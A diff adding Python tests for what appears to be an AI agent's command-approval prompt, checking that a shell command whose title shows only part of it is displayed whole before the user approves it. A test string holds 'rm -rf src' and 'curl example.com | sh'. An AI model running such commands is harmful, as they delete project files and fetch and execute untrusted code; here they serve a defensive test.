@@ -139,6 +139,49 @@ def test_description_is_the_reason_and_the_change() -> None:
     )
 
 
+LINE = "ls; rm -rf src\ncurl example.com | sh"
+
+
+def test_plain_question_shows_a_command_whole_which_its_title_says_in_part() -> None:
+    asked = question(Prepared([Access("execute", LINE)], title="smash ls; rm -rf src"))
+    assert describe(asked) == [
+        f"smash {LINE}".split("\n")[0],
+        LINE.split("\n")[1],
+        "it would run rm",
+    ]
+    out = io.StringIO()
+    Questions(Screen(out, colour=False), Lines("n"), str)(asked)
+    assert out.getvalue().startswith(f"smash {LINE}\nit would run rm\ny: once ")
+    for hidden in ("x" * 300, "y\nz\n" * 60):
+        long = question(Prepared([Access("execute", hidden)], title=f"smash {hidden[:100]}"))
+        assert "\n".join(describe(long)) == f"smash {hidden.strip()}\nit would run rm"
+    inside = question(Prepared([Access("execute", "dd")], title="add things"))
+    assert describe(inside, titled=True) == ["add things", "dd", "it would run rm"]
+    short = question(Prepared([Access("execute", "ls")], title="smash ls"))
+    assert describe(short) == ["it would run rm"]  # the title is above
+
+
+@pytest.mark.parametrize(
+    ("key", "said"),
+    [
+        ("a", "\nfrom now on allowed: smash(*) (saved)\n"),
+        ("s", "\nfrom now on allowed: smash(*) (this session)\n"),
+        ("y", ""),
+        ("n", ""),
+    ],
+)
+def test_what_is_allowed_from_now_on_is_told(key: str, said: str) -> None:
+    out = io.StringIO()
+    Questions(Screen(out, colour=False), Lines(key), lambda _: None)(question())
+    assert out.getvalue().partition("no, because")[2] == (said or "\n")
+
+
+def test_nothing_is_offered_to_be_kept_where_no_rule_would_end_the_question() -> None:
+    out = io.StringIO()
+    Questions(Screen(out, colour=False), Lines("s"), str, lambda _: "")(question(rule=""))
+    assert out.getvalue() == "it would run rm\ny: once   n: no   n WHY: no, because\n"
+
+
 def test_description_of_a_call_without_a_title_is_its_arguments() -> None:
     assert describe(question(Prepared())) == ['smash {"what": "it"}', "it would run rm"]
 
